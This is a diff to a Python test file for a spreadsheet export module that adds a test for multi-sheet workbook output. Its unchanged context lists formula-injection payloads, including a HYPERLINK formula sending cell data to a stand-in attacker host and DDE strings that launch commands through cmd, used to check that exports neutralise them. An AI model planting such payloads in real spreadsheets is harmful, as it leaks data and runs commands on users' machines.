@@ -8,7 +8,7 @@ from datetime import date
 
 import openpyxl
 
-from counselroom.reports.spreadsheet import csv_bytes, xlsx_bytes
+from counselroom.reports.spreadsheet import csv_bytes, workbook_bytes, xlsx_bytes
 
 ATTACKS = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"点击查看\")", "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
            "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "  =1+1", "＝1+1"]
@@ -45,3 +45,11 @@ def test_xlsx_text_is_never_a_formula():
 def test_xlsx_drops_characters_xml_cannot_hold():
     book = openpyxl.load_workbook(io.BytesIO(xlsx_bytes([["张\x00三\x1b[31m"]])))
     assert book.active["A1"].value == "张三[31m"
+
+
+def test_workbook_sheets_keep_their_order_and_the_same_text_rule():
+    data = workbook_bytes([("01 说明", [["=1+1"]]), ("02 表", [["类别", "合计"], ["个别", 12], ["<5", "x"]])])
+    book = openpyxl.load_workbook(io.BytesIO(data))
+    assert book.sheetnames == ["01 说明", "02 表"]
+    assert book["01 说明"]["A1"].data_type == "s" and book["01 说明"]["A1"].quotePrefix
+    assert book["02 表"]["B2"].value == 12 and book["02 表"]["A3"].value == "<5"
